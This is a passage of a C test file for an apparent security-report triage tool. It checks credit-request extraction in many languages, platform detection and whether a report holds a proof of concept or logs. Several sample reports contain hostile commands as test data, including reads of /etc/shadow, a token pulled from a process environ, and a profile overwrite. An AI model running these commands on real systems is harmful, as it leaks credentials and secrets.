	 * "ስሜን መጥቀስ ትችላላችሁ፦ NAME"; a quoted "Name, Company" after "credit
	 * this finding to" kept whole; a name in parentheses after "you are
	 * welcome to mention me"; a signature is no request */
	{ "fwiw credit as quillfeather, no link.", TRUE, FALSE, "quillfeather", NULL },
	{ "pls credit as mossbit. thanks", TRUE, FALSE, "mossbit", NULL },
	{ "We got credit as well for the earlier bug.", FALSE, FALSE, NULL, NULL },
	{ "The refund shows up as a credit as soon as the card is charged.", FALSE, FALSE, NULL, NULL },
	{ "I would not take credit as the idea came from a colleague.", FALSE, FALSE, NULL, NULL },
	{ "Hand out credit as you see fit.", FALSE, FALSE, NULL, NULL },
	{ "Mér þætti gaman að vera nefndur í tilkynningunni: Ari Stefánsson, https://aristef.example", TRUE, FALSE,
	  "Ari Stefánsson", "https://aristef.example" },
	{ "Tækið þarf að vera skráð: Kerfisstjóri sér um það.", FALSE, FALSE, NULL, NULL },
	{ "Ég vil ekki vera nefnd: þetta á að vera nafnlaust.", TRUE, TRUE, NULL, NULL },
	{ "Ве молам наведете ме како Елена Трајковска.", TRUE, FALSE, "Елена Трајковска", NULL },
	{ "Ве молиме наведете нè како: Тим Охрид Сек, https://ohridsec.example", TRUE, FALSE, "Тим Охрид Сек",
	  "https://ohridsec.example" },
	{ "Наведете ме како контакт за прашања.", FALSE, FALSE, NULL, NULL },
	{ "Не ме наведете како Елена, туку како тимот.", FALSE, FALSE, NULL, NULL },
	{ "हामीलाई श्रेय पर्दैन, धन्यवाद।", TRUE, TRUE, NULL, NULL },
	{ "मुझे क्रेडिट नहीं चाहिए।", TRUE, TRUE, NULL, NULL },
	{ "कृपया हाम्रो नाम नलेख्नुहोस्।", TRUE, TRUE, NULL, NULL },
	{ "यो config मा नराख्नुहोस्, host मा राख्नुहोस्।", FALSE, FALSE, NULL, NULL },
	{ "मेरो नाम सुजन हो र म developer हुँ।", FALSE, FALSE, NULL, NULL },
	{ "ስማችንን ማስፈር ትችላላችሁ: ሰላም ቡድን", TRUE, FALSE, "ሰላም ቡድን", NULL },
	{ "ምስጋና፦ ሄኖክ ታደሰ", TRUE, FALSE, "ሄኖክ ታደሰ", NULL },
	{ "ስሜ ሄኖክ ነው።", FALSE, FALSE, NULL, NULL },
	{ "Please credit the report to \"Ines Duarte, Tagus Security\" and link https://tagus.example/labs.", TRUE,
	  FALSE, "Ines Duarte, Tagus Security", "https://tagus.example/labs" },
	{ "Please attribute our finding to \"Rui Matos, Lisbon CERT\".", TRUE, FALSE, "Rui Matos, Lisbon CERT", NULL },
	{ "Please credit this to the upstream maintainers instead.", FALSE, FALSE, NULL, NULL },
	{ "If you write this up, feel free to credit us (Lotte Jansen and Pieter Bakker).", TRUE, FALSE,
	  "Lotte Jansen and Pieter Bakker", NULL },
	{ "You may mention me (Ruben\nKoster) in the advisory notes.", TRUE, FALSE, "Ruben Koster", NULL },
	{ "You can reach me (Mon-Fri) on the phone.", FALSE, FALSE, NULL, NULL },
	{ "Feel free to cc me (Anna) on the thread.", FALSE, FALSE, NULL, NULL },
	{ "Kind regards,\nSanne Bakker\nRoom 0.11 | T +31 40 555 0101", FALSE, FALSE, NULL, NULL },
	/* (#3) the writer's name first, then the verdict that it will do for
	 * the credit, often in a postscript; a thing fine for something else,
	 * or a credit of another kind, is none */
	{ "Short write-up below.\n\nCheers,\nNoor\n\nP.S. if this goes into an advisory, \"Noor Haddad\" is fine for credit, no link please.",
	  TRUE, FALSE, "Noor Haddad", NULL },
	{ "PS: \u201cKofi Mensah\u201d works as the credit line, https://kofi.example/about", TRUE, FALSE, "Kofi Mensah",
	  "https://kofi.example/about" },
	{ "P.S. Ines Moreau would be perfect for the acknowledgement.", TRUE, FALSE, "Ines Moreau", NULL },
	{ "P.S. \"0.9.1\" is fine for the credits page test.", FALSE, FALSE, NULL, NULL },
	{ "The Staging Cluster is fine for credit checks.", FALSE, FALSE, NULL, NULL },
	{ "P.S. the Docker Desktop build is fine for testing too.", FALSE, FALSE, NULL, NULL },
	/* (#3) the writer's own request with its subject left out, in a
	 * postscript or a signature's line: nameless (the From name fills it
	 * in); a signature or a postscript that asks nothing, or a wish with
	 * its subject, a pronoun no one names, is none */
	{ "Regards,\nTeodor\n\n--\nTeodor Lindqvist \u00b7 Platform Security, Fjordbyte\nHappy to be credited by name if an advisory comes out.",
	  TRUE, FALSE, NULL, NULL },
	{ "P.S. would love to be acknowledged in the advisory if it ships.", TRUE, FALSE, NULL, NULL },
	{ "Regards,\nTeodor\n\n--\nTeodor Lindqvist \u00b7 Platform Security, Fjordbyte\nHappy to help test a fix if you need a hand.",
	  FALSE, FALSE, NULL, NULL },
	{ "P.S. happy to be mentioned in the thread about the dashboard refactor.", FALSE, FALSE, NULL, NULL },
	{ "My colleague saw it too. She is happy to be credited by name if you publish.", FALSE, FALSE, NULL, NULL },
	/* (#3) French: the wish itself negated ("ne souhaite pas être cité");
	 * a wish not to be contacted is none */
	{ "Je ne souhaite pas \u00eatre cit\u00e9 dans le bulletin, merci.", TRUE, TRUE, NULL, NULL },
	{ "Nous ne tenons pas \u00e0 \u00eatre nomm\u00e9s dans l'avis.", TRUE, TRUE, NULL, NULL },
	{ "Je n'ai pas besoin d'\u00eatre cr\u00e9dit\u00e9e.", TRUE, TRUE, NULL, NULL },
	{ "Je ne souhaite pas \u00eatre contact\u00e9 par t\u00e9l\u00e9phone.", FALSE, FALSE, NULL, NULL },
	/* (#3) the writer's pronouns in parentheses are no part of the name;
	 * a link joined by "and a link" ends it, in other languages too */
	{ "Please credit Oskar Lindahl (he/him).", TRUE, FALSE, "Oskar Lindahl", NULL },
	{ "Please credit Rui Tavares (pronouns: they/them), thanks.", TRUE, FALSE, "Rui Tavares", NULL },
	{ "Please credit Greta Holm, and a link to https://gholm.example would be lovely.", TRUE, FALSE, "Greta Holm",
	  "https://gholm.example" },
	{ "Naamsvermelding: graag met mijn naam, Femke de Bruin, en een link naar https://github.com/femkedb", TRUE,
	  FALSE, "Femke de Bruin", "https://github.com/femkedb" },
	{ "F\u00fcr die Danksagung gerne mit Namen: Lukas Brenner und einen Link auf https://lbrenner.example", TRUE,
	  FALSE, "Lukas Brenner", "https://lbrenner.example" },
	/* (#3) a credit waved off as not worth it, a curly apostrophe too; a
	 * third party waved off is none */
	{ "Don\u2019t bother crediting me, it was a lucky find.", TRUE, TRUE, NULL, NULL },
	{ "No need to bother naming us in the advisory.", TRUE, TRUE, NULL, NULL },
	{ "Don\u2019t credit me for this one please.", TRUE, TRUE, NULL, NULL },
	{ "Don't bother crediting the upstream maintainers, they know already.", FALSE, FALSE, NULL, NULL },
	{ "Please don\u2019t name our employer. You may credit me as Ines Okafor.", TRUE, FALSE, "Ines Okafor", NULL },
	/* (#3) a Reported-by trailer of the writer's own asks for the credit;
	 * one quoted from a commit (a block of trailers, indented by git log,
	 * under a commit's header or introduction) does not */
	{ "The hook runs as root.\n\nReported-by: Veikko Lahti <veikko@lahti.example>\n", TRUE, FALSE, "Veikko Lahti",
	  NULL },
	{ "Reported-by: Aino Salo, in case the advisory lists finders. No link.\n", TRUE, FALSE, "Aino Salo", NULL },
	{ "Upstream fixed the same thing in this commit:\n\nReported-by: Kalle Nurmi <kn@x.example>\nSigned-off-by: "
	  "Eero Aalto <ea@x.example>\n", FALSE, FALSE, NULL, NULL },
	{ "See the upstream patch:\nReported-by: Kalle Nurmi\n", FALSE, FALSE, NULL, NULL },
	{ "git log shows:\n\ncommit 5be21c09ad\n    Fix the socket mode\n\n    Reported-by: Kalle Nurmi\n", FALSE, FALSE,
	  NULL, NULL },
	/* (#3) a credit line for several vendors, a group's name and its
	 * university wrapped over lines, an affiliation in parentheses
	 * wrapped inside them */
	{ "Credit, for all vendors: Hana Ito and Ravi Menon, Secure Systems\nLab, Northgate University\n"
	  "(https://ssl.northgate.example).\n", TRUE, FALSE,
	  "Hana Ito and Ravi Menon, Secure Systems Lab, Northgate University", "https://ssl.northgate.example" },
	{ "Credit (for every project): Tove Lund.\n", TRUE, FALSE, "Tove Lund", NULL },
	{ "Credit for all vendors is handled by the coordinator.\n", FALSE, FALSE, NULL, NULL },
	{ "Please credit Jonas Berg (Institute of Informatics,\nSouthby College). No link please.\n", TRUE, FALSE,
	  "Jonas Berg (Institute of Informatics, Southby College)", NULL },
	{ "Please credit Jonas Berg,\nthanks again for the quick reply.\n", TRUE, FALSE, "Jonas Berg", NULL },
	/* (#3) Slovene and Croatian declines with "da me ... ne", thanks not
	 * needed; isiZulu's "my name is" glued onto the name; Burmese's
	 * quoted name before the quotative; Marathi's "no credit" */
	{ "Prosimo, da nas v objavi ne omenjate; zahvala ni potrebna.", TRUE, TRUE, NULL, NULL },
	{ "Molim da me ne navodite u obavijesti.", TRUE, TRUE, NULL, NULL },
	{ "Zahvala nije potrebna.", TRUE, TRUE, NULL, NULL },
	{ "Prosim, da me ne kontaktirate po telefonu.", FALSE, FALSE, NULL, NULL },
	{ "Uma nifuna ukunginika i-credit, igama lami nginguLindiwe Zulu.", TRUE, FALSE, "Lindiwe Zulu", NULL },
	{ "Igama lami nginguLindiwe Zulu, ngisebenza eThekwini.", FALSE, FALSE, NULL, NULL },
	{ "Credit ပေးရင် \"Kyaw Thura\" လို့ ရေးပေးပါ။", TRUE, FALSE, "Kyaw Thura", NULL },
	{ "Log ထဲမှာ \"access denied\" လို့ ပေါ်ပါတယ်။", FALSE, FALSE, NULL, NULL },
	{ "मला credit ची गरज नाही.", TRUE, TRUE, NULL, NULL },
	{ "Credit नको, धन्यवाद.", TRUE, TRUE, NULL, NULL },
	{ "आमचं नाव कुठेही छापू नका.", TRUE, TRUE, NULL, NULL },
	{ "कंपनीचं नाव टाकू नका.", FALSE, FALSE, NULL, NULL },
};

/* An answer to someone else's credit question (st_extract_credit_answer):
 * TEXT with its quoted lines (markers removed), OWN the writer's own. */
static const struct {
	const char *text, *own;
	gboolean found, anonymous;
	const char *name, *link;
} credit_answers[] = {
	/* our question quoted back, answered below it */
	{ "Thanks.\n\nShould we credit you in the advisory? Reply with a name and a link.\n\n"
	  "Sure: Malik Osei (https://osei.example)\n",
	  "Thanks.\n\nSure: Malik Osei (https://osei.example)\n", TRUE, FALSE, "Malik Osei",
	  "https://osei.example" },
	/* a form's question and the writer's answer */
	{ "Do you want to be acknowledged publicly?\nYes, as Rin Takeda\n", NULL, TRUE, FALSE, "Rin Takeda", NULL },
	{ "Would you like to be credited in the release notes?\nyep, please use Dara Quinn, no link\n", NULL, TRUE,
	  FALSE, "Dara Quinn", NULL },
	{ "If you want credit, tell us the name to print.\n\nNo thanks.\n", "\n\nNo thanks.\n", TRUE, TRUE,
	  NULL, NULL },
	{ "If you want credit, tell us the name to print.\n\nYes please.\n", "\n\nYes please.\n", TRUE, FALSE,
	  NULL, NULL },
	/* near misses: the answer quoted too, too far below, about something
	 * else, or to a question that is not about credit */
	{ "Do you want to be credited?\nYes: Rin Takeda\n", "Thanks\n", FALSE, FALSE, NULL, NULL },
	{ "Do you want to be credited?\none\ntwo\nthree\nfour\nYes: Rin Takeda\n", NULL, FALSE, FALSE, NULL, NULL },
	{ "Do you want to be credited?\n\nSure, I can send the logs tomorrow if that helps.\n", NULL, FALSE, FALSE,
	  NULL, NULL },
	{ "Can you send us the version you ran?\n\nYes: Rin Takeda built it, 0.8.6\n", NULL, FALSE, FALSE, NULL,
	  NULL },
};

/* The writer's own name (From) after a word of credit or the advisory, in
 * any language (st_extract_credit_own) */
static const struct {
	const char *text, *from_name, *from_addr;
	gboolean found;
	const char *name, *link;
} own_credits[] = {
	{ "Nếu các bạn ghi công trong advisory, xin ghi là Tran Minh Khoa, cảm ơn.", "Trần Minh Khoa",
	  "khoa.tran@example.org", TRUE, "Tran Minh Khoa", NULL },
	{ "Advisory'de teşekkür edecekseniz lütfen Elif Demir olarak yazın: https://github.com/edemir\n", "Elif Demir",
	  "elif@example.org", TRUE, "Elif Demir", "https://github.com/edemir" },
	/* the display name in another script, the address in Latin letters */
	{ "Αν αναφέρετε ονόματα στο advisory, γράψτε Nikos Pappas.", "Νίκος Παππάς", "nikos.pappas@example.org", TRUE,
	  "Nikos Pappas", NULL },
	/* a script without capitals: the writer's own words only */
	{ "إذا كان هناك كريدت في advisory اكتبوا سارة خليل من فضلكم.", "سارة خليل", "s.k@example.org", TRUE,
	  "سارة خليل", NULL },
	/* one word of the writer's and a capitalised one beside it */
	{ "For the advisory you can use Ama Owusu-Boateng if that works.", NULL, "ama@example.org", TRUE,
	  "Ama Owusu-Boateng", NULL },
	/* the name the writer quoted, whole */
	{ "If you credit anyone, please use \"Lena Ortiz & the Q-Lab team\" for it.", "Lena Ortiz",
	  "lena@example.org", TRUE, "Lena Ortiz & the Q-Lab team", NULL },
	/* near misses: a sign-off, the name before the word, someone else's
	 * name, thanks, a name without capitals, no sender's name */
	{ "Happy to help with the advisory if you want\nMarta Kowalska\n", "Marta Kowalska", "marta@example.org",
	  FALSE, NULL, NULL },
	{ "Marta Kowalska here; I read the advisory for 0.9 and this is new.", "Marta Kowalska", "marta@example.org",
	  FALSE, NULL, NULL },
	{ "The advisory by Jan Novak describes a similar bug.", "Marta Kowalska", "marta@example.org", FALSE, NULL,
	  NULL },
	{ "Thanks for the advisory, Marta Kowalska and team.", "Marta Kowalska", "marta@example.org", FALSE, NULL,
	  NULL },
	{ "the advisory was read by marta kowalska yesterday", "Marta Kowalska", "marta@example.org", FALSE, NULL,
	  NULL },
	{ "Please use Marta Kowalska in the advisory.", NULL, NULL, FALSE, NULL, NULL },
	/* (#3) an affiliation in parentheses after the name is part of the
	 * credit string; a pronoun or a remark about the link is not */
	{ "W podzi\u0119kowaniach prosimy wpisa\u0107: Zofia Wrona (Sowa Labs). Bez linku.", "Zofia Wrona",
	  "z.wrona@example.org", TRUE, "Zofia Wrona (Sowa Labs)", NULL },
	{ "Im Advisory bitte Karla Brandt (M\u00f6we Systems GmbH) als Entdeckerin nennen.", "Karla Brandt",
	  "kb@example.org", TRUE, "Karla Brandt (M\u00f6we Systems GmbH)", NULL },
	{ "Im Advisory bitte Karla Brandt (sie/ihr) als Entdeckerin nennen.", "Karla Brandt", "kb@example.org", TRUE,
	  "Karla Brandt", NULL },
	{ "For the advisory you can use Ama Owusu (no link needed).", NULL, "ama@example.org", TRUE, "Ama Owusu",
	  NULL },
	{ "For the advisory you can use Ama Owusu (she/her).", NULL, "ama@example.org", TRUE, "Ama Owusu", NULL },
	{ "For the advisory you can use Ama Owusu (if that is fine).", NULL, "ama@example.org", TRUE, "Ama Owusu",
	  NULL },
};

static void
test_credit_own(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();

	for (gsize i = 0; i < G_N_ELEMENTS(own_credits); i++) {
		g_autoptr(StAnalysis) a = st_analysis_new();
		st_extract_credit_own(rules, own_credits[i].text, own_credits[i].from_name, own_credits[i].from_addr, a);
		if (a->credit_found != own_credits[i].found || a->credit_anonymous ||
		    g_strcmp0(a->credit_name, own_credits[i].name) || g_strcmp0(a->credit_link, own_credits[i].link))
			FAIL("own credit case %zu (%.40s): got %d/%s/%s", i, own_credits[i].text, a->credit_found,
			     a->credit_name, a->credit_link);
	}
}

static void
test_credit(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();

	for (gsize i = 0; i < G_N_ELEMENTS(credits); i++) {
		g_autoptr(StAnalysis) a = st_analysis_new();
		st_extract_credit(rules, credits[i].text, a);
		if (a->credit_found != credits[i].found || a->credit_anonymous != credits[i].anonymous ||
		    g_strcmp0(a->credit_name, credits[i].name) ||
		    g_strcmp0(a->credit_link, credits[i].link))
			FAIL("credit case %zu (%.40s): got %d/%d/%s/%s", i, credits[i].text,
				a->credit_found, a->credit_anonymous, a->credit_name, a->credit_link);
	}
}

static void
test_credit_answer(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();

	for (gsize i = 0; i < G_N_ELEMENTS(credit_answers); i++) {
		g_autoptr(StAnalysis) a = st_analysis_new();
		const char *own = credit_answers[i].own ? credit_answers[i].own : credit_answers[i].text;
		st_extract_credit_answer(rules, credit_answers[i].text, own, a);
		if (a->credit_found != credit_answers[i].found ||
		    a->credit_anonymous != credit_answers[i].anonymous ||
		    g_strcmp0(a->credit_name, credit_answers[i].name) ||
		    g_strcmp0(a->credit_link, credit_answers[i].link))
			FAIL("credit answer %zu (%.40s): got %d/%d/%s/%s", i, credit_answers[i].text,
				a->credit_found, a->credit_anonymous, a->credit_name, a->credit_link);
	}
}

/* ------------------------------------------------------------ messages */

typedef struct {
	const char *filename, *type, *content;
	gsize len;               /* 0: strlen(content) */
} Att;

/* A message with BODY and up to three attachments, parsed by parse.c. */
static StMessage *
make_message(const char *subject, const char *body, const Att *atts)
{
	g_autoptr(GString) m = g_string_new(NULL);

	g_string_append_printf(m, "From: Rep Orter <rep@example.org>\nTo: security@superrad.company\n"
			       "Subject: %s\nMessage-ID: <t@example.org>\nMIME-Version: 1.0\n",
			       subject ? subject : "report");
	if (atts == NULL || atts[0].filename == NULL) {
		g_string_append_printf(m, "Content-Type: text/plain; charset=utf-8\n"
				       "Content-Transfer-Encoding: 8bit\n\n%s\n", body);
	} else {
		g_string_append(m, "Content-Type: multipart/mixed; boundary=\"BB\"\n\n--BB\n"
				"Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n");
		g_string_append_printf(m, "%s\n", body);
		for (const Att *a = atts; a->filename; a++) {
			g_autofree char *b64 = g_base64_encode((const guchar *)a->content,
							       a->len ? a->len : strlen(a->content));
			g_string_append_printf(m, "--BB\nContent-Type: %s\nContent-Disposition: attachment; "
					       "filename=\"%s\"\nContent-Transfer-Encoding: base64\n\n%s\n",
					       a->type, a->filename, b64);
		}
		g_string_append(m, "--BB--\n");
	}
	return tu_parse(m->str);
}

static StAnalysis *
analyse(const StRules *rules, const char *subject, const char *body, const Att *atts)
{
	StAnalysis *a = st_analysis_new();
	a->msg = make_message(subject, body, atts);
	st_extract(rules, a->msg, NULL, a);
	return a;
}

/* The host a Subject names: taken when the body names none, filling what
 * the body leaves out when both name the same system; a body with a host
 * of its own keeps it, and a Subject without one adds nothing. */
static const struct {
	const char *subject, *body;
	const char *os, *distro, *kernel, *macos, *chip;
} subject_platforms[] = {
	{ "[Ubuntu 24.04.1 LTS, 6.8.0-49-generic] guest writes host files", "Details below.\n\n"
	  "  $ msb run alpine -- sh -c 'echo x > /mnt/host/tmp/y'\n", "linux", "Ubuntu 24.04.1 LTS",
	  "6.8.0-49-generic", NULL, NULL },
	{ "escape via shared tmp (macOS 15.2, Apple M4 Pro)", "Steps are below; host as in the subject.\n",
	  "macos", NULL, NULL, "15.2", "Apple M4 Pro" },
	/* the body names the system without its fields: the Subject fills them */
	{ "Fedora 41 / kernel 6.11.4-301.fc41.x86_64: agent socket open to all",
	  "On my Linux laptop any local user can talk to the agent socket.\n", "linux", "Fedora 41",
	  "6.11.4-301.fc41.x86_64", NULL, NULL },
	/* the body's own host wins over a Subject naming another */
	{ "seen first on macOS 14.6", "Host: Ubuntu 22.04.5 LTS, kernel 6.5.0-45-generic\n", "linux",
	  "Ubuntu 22.04.5 LTS", "6.5.0-45-generic", NULL, NULL },
	/* no host in either */
	{ "sandbox escape via symlinked volume", "The volume code follows symlinks.\n", NULL, NULL, NULL, NULL,
	  NULL },
};

static void
test_subject_platform(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();

	for (gsize i = 0; i < G_N_ELEMENTS(subject_platforms); i++) {
		g_autoptr(StAnalysis) a = analyse(rules, subject_platforms[i].subject, subject_platforms[i].body, NULL);
		if (g_strcmp0(a->os, subject_platforms[i].os) || g_strcmp0(a->distro, subject_platforms[i].distro) ||
		    g_strcmp0(a->kernel, subject_platforms[i].kernel) ||
		    g_strcmp0(a->macos_version, subject_platforms[i].macos) ||
		    g_strcmp0(a->chip, subject_platforms[i].chip))
			FAIL("subject platform case %zu (%s): got %s|%s|%s|%s|%s", i, subject_platforms[i].subject,
			     a->os, a->distro, a->kernel, a->macos_version, a->chip);
	}
}

#define PROSE "The sandbox gateway does not apply the egress policy to DNS queries, " \
	"so an attacker who controls code inside a sandbox can exfiltrate data through " \
	"query names even when the sandbox is started without network access. This " \
	"defeats the isolation that users rely on for untrusted workloads.\n\n"

static const struct {
	const char *body;
	int description, poc, logs;   /* -1: do not care */
} checks[] = {
	/* (1837) one structured log record a line, as a JSON logger writes it
	 * or a log service exports it (level, a clock's time, a message, in
	 * any order), is logs; a logger's config or a request body written by
	 * hand is not, though it has "level" or "message" in it */
	{ PROSE "From our Loki export:\n\n{\"level\":\"warn\",\"ts\":1801234567.123,\"caller\":\"client/retry.go:88\","
	  "\"msg\":\"retrying request\",\"attempt\":3}\n", 1, -1, 1 },
	{ PROSE "Bunyan wrote:\n\n{\"name\":\"api\",\"hostname\":\"w1\",\"pid\":411,\"level\":30,\"msg\":\"sandbox created\","
	  "\"time\":\"2029-03-02T10:11:12.000Z\",\"v\":0}\n", 1, -1, 1 },
	{ PROSE "The record in Datadog:\n\n{\"message\":\"upload failed\",\"date\":\"2029-04-07T08:00:01Z\",\"status\":\"error\",\"service\":\"agent\"}\n", 1, -1, 1 },
	{ PROSE "Our logger is set up like this:\n\n{\"level\": \"debug\", \"format\": \"json\", \"time\": true, \"msg\": \"default\"}\n", 1, -1, 0 },
	{ PROSE "We post this body:\n\n{\"image\": \"alpine\", \"status\": \"error\", \"message\": \"hello\", \"timeout\": 30}\n", 1, -1, 0 },
	/* (#3) a helper run with PATH set for it and its arguments continued
	 * on the next line is a command, not what the line above printed:
	 * told in prose, its result is no log; printed under it, it is */
	{ PROSE "Steps:\n\n    mkdir /var/tmp/q\n    PATH=/var/tmp/q:$PATH /opt/tool/bin/netctl \\\n"
	  "        --up wg0\n    cat /var/tmp/q/log\n\nThe log then says uid 0, but I did not keep a copy.\n", 1, 1, 0 },
	{ PROSE "Steps:\n\n    mkdir /var/tmp/q\n    PATH=/var/tmp/q:$PATH /opt/tool/bin/netctl \\\n"
	  "        --up wg0\n    cat /var/tmp/q/log\n    uid=0(root) gid=0(wheel)\n", 1, 1, 1 },
	/* PoC in many styles */
	/* (#3) a binary-hardening audit (checksec, hardening-check) and its
	 * flag table are evidence of how a binary was built, logs, not a
	 * reproduction; a real command after it still is one */
	/* 1463: a template's blanks show nothing: a prompt before a
	 * placeholder runs nothing, "N/A" or "<output>" under a logs heading
	 * printed nothing; a command with a placeholder argument still runs,
	 * and JSON or markup under a heading is output, no blank */
	/* (1524) a heading addressed to several readers ("To see it for
	 * yourselves:") over steps on a web page; the phrase in a sentence
	 * with no steps under it is none */
	{ PROSE "To see it for yourselves:\n1. open the Actions tab and pick the nightly run\n2. expand the step \"Publish\"\n3. scroll to the line after \"Uploading\"\n", 1, 1, -1 },
	{ PROSE "You can see it yourselves in the public log of that run.\n", 1, 0, -1 },
	{ PROSE "How to reproduce:\n\n```\n$ <the exact command you ran>\n<what it printed>\n```\n", 1, 0, 0 },
	{ PROSE "Repro:\n\n    user@box:~$ [command]\n    user@box:~$ ...\n\nLogs / traces:\n\nTBD\n", 1, 0, 0 },
	{ PROSE "Console output:\nN/A\n", 1, 0, 0 },
	{ PROSE "    $ msb run --name t <image> -- cat /etc/shadow\n", 1, 1, -1 },
	{ PROSE "    $ msb exec t -- wget -qO- http://10.0.2.2:8080/\n\nResponse:\n\n<!DOCTYPE html>\n", 1, 1, 1 },
	{ PROSE "    $ msb exec t -- wget -qO- http://10.0.2.2:8080/state\n\nResponse:\n\n{\"tenant\":\"b\"}\n", 1, 1, 1 },
	/* (1620) a forge's CLI fetching a public run log or an API object
	 * and decoding it, on a line of its own in a block, continued over
	 * lines with '\': the evidence anyone can fetch again is the
	 * reproduction; the client named in a sentence, or asked for its
	 * version or login state, is none */
	{ PROSE "Anyone can pull it out of the nightly job:\n\n"
	  "    gh run view 5120044 --repo example/tool --log \\\n"
	  "      | grep 'Upload cache' | cut -d' ' -f4 | base64 -d\n", 1, 1, -1 },
	{ PROSE "Fetch the log like this:\n\n"
	  "    glab ci trace 88123 --repo group/proj | grep -i token\n", 1, 1, -1 },
	{ PROSE "The workflow log is public: gh run view shows it to anyone who asks.\n", 1, 0, -1 },
	{ PROSE "My versions:\n\n    gh version 2.61.0 (2028-10-02)\n    gh auth status\n", 1, 0, -1 },
	/* 1466: reStructuredText underlines its section titles with '~' as
	 * well: "Summary" / "~~~~~~~" is a heading, not a fence that would
	 * hide the prose below it; a fence under a longer lead-in or under
	 * one ending in a colon still opens a block */
	{ "Hello,\n\nadvisory below.\n\nSummary\n~~~~~~~\n\nThe snapshot restore in the Python SDK does not "
	  "check the archive member paths,\nso a crafted snapshot writes files outside the target directory. Any "
	  "user who\nrestores a shared snapshot lets its author overwrite files in their home\ndirectory, such as "
	  "the shell profile.\n\nReproduction\n~~~~~~~~~~~~\n\n.. code-block:: console\n\n"
	  "   $ msb snapshot restore shared.snap --into ./work\n   $ cat ~/.profile\n   echo pwned\n", 1, 1, 1 },
	{ PROSE "The script I used in the guest is this one\n~~~\nimport os\ndef swap(a, b):\n    os.rename(a, b)\n~~~\n", 1, 1, -1 },
	{ PROSE "PoC:\n~~~~\nimport os\ndef swap(a, b):\n    os.rename(a, b)\n~~~~\n", 1, 1, -1 },
	/* 1468: a reproduction section left blank ("TBD", "to follow", "à
	 * compléter" under its heading or after its colon): the code shown is
	 * the source discussed, quoted; a command still reproduces, and a
	 * steps heading over code or over a real lead-in keeps the code */
	{ PROSE "## How to reproduce\n\nTo follow once the race is reliable.\n\nThe handler as it is today:\n\n"
	  "```c\nstatic int handle_open(struct req *r) {\n    int fd = openat(root, r->name, r->flags);\n"
	  "    return fd;\n}\n```\n", 1, 0, 0 },
	{ PROSE "PoC : à compléter\n\n```python\nimport os\ndef swap(a, b):\n    os.rename(a, b)\n```\n", 1, 0, 0 },
	/* (#3, 2138) no time or chance to build the exploit, or a finding
	 * of source review only: the code shown is the source discussed;
	 * a command still reproduces */
	{ PROSE "Found by static code review only. The parser today:\n\n```rust\nlet n = hdr.len as usize;\n"
	  "let body = &buf[4..4 + n];\nout.extend_from_slice(body);\n```\n", 1, 0, 0 },
	{ PROSE "We haven't had the chance yet to write a working PoC. The handler:\n\n```c\nint n = req->len;\n"
	  "memcpy(dst, req->data, n);\nreturn n;\n```\n", 1, 0, 0 },
	{ PROSE "I had no time to report it earlier. The handler:\n\n```c\nint n = req->len;\n"
	  "memcpy(dst, req->data, n);\nreturn n;\n```\n", 1, 1, 0 },
	{ PROSE "Code review only at first, then I confirmed it:\n\n    $ msb run --name t alpine -- sh -c 'head -c 70000 /dev/zero > /dev/vport0p1'\n", 1, 1, -1 },
	{ PROSE "Steps to reproduce:\n\nTBD on macOS; on Linux it is enough to run\n\n"
	  "    $ msb run --name r alpine -- ln -s / /shared/link\n", 1, 1, -1 },
	{ PROSE "Steps to reproduce:\n\n```python\nimport os\ndef swap(a, b):\n    os.rename(a, b)\n```\n", 1, 1, -1 },
	{ PROSE "PoC: the script below, run inside the guest.\n\n```python\nimport os\ndef swap(a, b):\n    os.rename(a, b)\n```\n", 1, 1, -1 },
	{ PROSE "$ checksec --file=/usr/bin/msb\n"
	  "RELRO           STACK CANARY      NX            PIE\n"
	  "Partial RELRO   No canary found   NX enabled    PIE enabled\n", 1, 0, 1 },
	{ PROSE "$ hardening-check /usr/local/bin/msb\n"
	  "/usr/local/bin/msb:\n Position Independent Executable: yes\n Stack protected: no, not found!\n", 1, 0, -1 },
	{ PROSE "$ checksec --file=/usr/bin/msb\nPartial RELRO   No canary found   NX enabled    PIE enabled\n"
	  "$ msb run --name t alpine -- sh -c 'cat /host/etc/shadow'\nroot:*:19700:0:99999:7:::\n", 1, 1, -1 },
	/* (1849) how a process is confined read back from /proc (its
	 * status, limits): a property, as checksec's table is; its environ
	 * read, or a command of the product's after it, still reproduces */
	{ PROSE "$ grep NoNewPrivs /proc/$(pidof msbd)/status\nNoNewPrivs:\t0\n", 1, 0, -1 },
	{ PROSE "    $ cat /proc/self/limits | grep -i 'open files'\n    Max open files  1048576  1048576  files\n", 1, 0, -1 },
	{ PROSE "$ tr '\\0' '\\n' < /proc/$(pgrep -f msbd)/environ | grep TOKEN\nMSB_TOKEN=abc\n", 1, 1, -1 },
	{ PROSE "$ grep CapEff /proc/self/status\nCapEff:\t000001ffffffffff\n"
	  "$ msb exec t -- sh -c 'mount -t proc none /mnt && ls /mnt/1/root'\n", 1, 1, -1 },
	/* 1512: a static-analysis run (semgrep, CodeQL, bandit, cargo clippy)
	 * is evidence of a finding, its output a log, not a reproduction; a
	 * command of the product's after it still is one, and a tool whose
	 * name only begins the same is a command */
	{ PROSE "$ codeql database analyze db codeql/rust-queries --format=sarif-latest -o out.sarif\n"
	  "Interpreting results.\nShutting down query evaluator.\n", 1, 0, -1 },
	{ PROSE "    $ bandit -r sdk/python/microsandbox\n    >> Issue: [B108:hardcoded_tmp_directory] Probable insecure usage of temp file\n"
	  "       Severity: Medium   Confidence: Medium\n", 1, 0, -1 },
	{ PROSE "```\n$ cargo clippy --all-targets -- -W clippy::pedantic\nwarning: casting `u64` to `usize` may truncate the value\n```\n", 1, 0, -1 },
	{ PROSE "$ semgrep --config p/rust crates/\n  crates/msb-fs/src/copy.rs\n"
	  "$ msb run --name t alpine -- sh -c 'ln -sf /etc/shadow /out/x'\n$ msb cp t:/out/x ./x && head -1 x\nroot:*:19700:0:99999:7:::\n", 1, 1, -1 },
	{ PROSE "$ semgrepper --target http://127.0.0.1:5555/v1/sandboxes --token none\n{\"error\":null,\"items\":[\"b-7\"]}\n", 1, 1, -1 },
	/* (#3) a command of the writer's own on a line of its own under
	 * their colon sentence is a reproduction; one the docs give, or a
	 * sentence that only starts with a command word, is not */
	{ PROSE "From a shell in the guest I typed this:\n\n"
